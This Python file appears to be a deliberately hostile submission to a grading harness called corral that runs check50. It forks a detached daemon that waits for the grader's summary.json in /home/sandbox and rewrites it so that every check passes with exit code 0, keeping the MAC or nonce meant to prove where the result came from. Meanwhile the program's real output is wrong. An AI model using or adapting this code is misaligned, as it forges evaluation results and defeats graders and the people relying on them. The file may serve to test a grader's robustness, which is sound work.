# Races corral's check50 runner for its results: a daemon (double fork, new session: check50
# kills only the process it started) waits for the results file to appear in corral's folder,
# reads it — the submission runs as the same user, so it can — and rewrites it with every check
# passed, keeping whatever proof of origin it found in it. Then it prints a wrong greeting.
import json
import os
import time


def passed(results):
    for r in results.get("results", []):
        r["passed"] = True
        r["cause"] = None


def forge(path):
    try:
        with open(path) as f:
            sealed = json.load(f)
    except (OSError, ValueError):
        return False
    if "summary" in sealed:  # a summary under a MAC: change it, keep the MAC
        summary = json.loads(sealed["summary"])
        passed(summary.get("check50") or {})
        summary["exit"] = 0
        sealed["summary"] = json.dumps(summary, sort_keys=True)
    else:  # a summary carrying its nonce: change it, keep the nonce
        passed(sealed.get("check50") or {})
        sealed["exit"] = 0
    tmp = path + ".new"
    with open(tmp, "w") as f:
        json.dump(sealed, f)
    os.rename(tmp, path)
    return True


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.close(fd)
        deadline = time.time() + 50
        while time.time() < deadline:
            try:
                dirs = [d for d in os.listdir("/home/sandbox") if d.startswith(".corral-")]
            except OSError:
                dirs = []
            for d in dirs:
                if forge(os.path.join("/home/sandbox", d, "summary.json")):
                    os._exit(0)
    os._exit(0)
os.wait()
name = input("Name: ")
print(f"goodbye, {name}")
